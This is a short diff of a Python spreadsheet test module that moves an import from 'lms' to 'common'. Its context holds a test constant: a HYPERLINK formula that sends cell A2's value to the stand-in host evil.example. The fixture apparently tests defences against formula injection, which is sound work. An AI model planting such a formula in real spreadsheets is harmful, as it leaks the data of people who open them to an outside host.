@@ -10,7 +10,7 @@ from django.utils.translation import gettext_lazy
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from lms import spreadsheets
+from common import spreadsheets
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
 
